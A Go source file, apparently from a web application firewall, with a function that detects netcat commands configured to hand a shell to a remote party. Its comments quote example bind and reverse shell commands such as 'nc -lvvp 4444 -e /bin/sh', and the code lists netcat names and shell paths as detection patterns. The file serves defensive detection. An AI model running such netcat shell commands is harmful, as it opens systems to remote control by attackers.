package shell

import (
	"strings"

	"github.com/lambdawaf/lambdawaf/agent/detect/lex"
)

// netcatNames are the names netcat goes by.
var netcatNames = lex.NewWordList("netcat", "ncat", "nc")

// NetcatShell finds netcat set up to hand a program (a shell) to whoever
// connects or is connected to, whatever flags stand between: nc -lvvp
// 4444 -e /bin/sh, ncat -nv 10.0.0.1 9001 -c bash, nc x 1 -e cmd.exe. s is
// lower-cased, have its byte set. It returns the offset of the netcat
// word, or -1.
//
// The phrase list holds "nc -e" as written; this reads the command's
// arguments up to the end of its command (a separator), for a program
// flag (-e, -c, or a cluster of flags ending in one: -nlvpe) followed by
// an argument, or a shell's absolute path among them. An occurrence among
// the arguments just read is not read again: a value of "nc nc nc ..."
// is read once.
func NetcatShell(s string, have *lex.ByteSet) int {
	from, read := 0, 0 // the arguments read last: s[from:read]
	_, at := netcatNames.Index(s, have, func(i int, w string) bool {
		e := i + len(w)
		if from <= i && i < read || i > 0 && (lex.IsWord(s[i-1]) || s[i-1] == '.' || s[i-1] == '-') || e >= len(s) || s[e] != ' ' && s[e] != '\t' {
			return false
		}
		var runs bool
		runs, read = netcatRunsProgram(s, e)
		from = e
		return runs
	})
	return at
}

// netcatRunsProgram reads netcat's arguments from s[j:] to the end of its
// command (at most 160 bytes), and returns where it stopped.
func netcatRunsProgram(s string, j int) (bool, int) {
	end := min(len(s), j+160)
	if k := strings.IndexAny(s[j:end], ";|&\n`"); k >= 0 {
		end = j + k
	}
	prevFlag := false // the argument before was a program flag
	for k := j; k < end; {
		for k < end && (s[k] == ' ' || s[k] == '\t') {
			k++
		}
		e := k
		for e < end && s[e] != ' ' && s[e] != '\t' {
			e++
		}
		if e == k {
			break
		}
		a := s[k:e]
		if prevFlag {
			return true, end
		}
		switch a {
		case "/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "cmd.exe":
			return true, end
		}
		prevFlag = len(a) >= 2 && a[0] == '-' && (a[len(a)-1] == 'e' || a[len(a)-1] == 'c') && lex.IsLetters(a[1:])
		k = e
	}
	return false, end
}
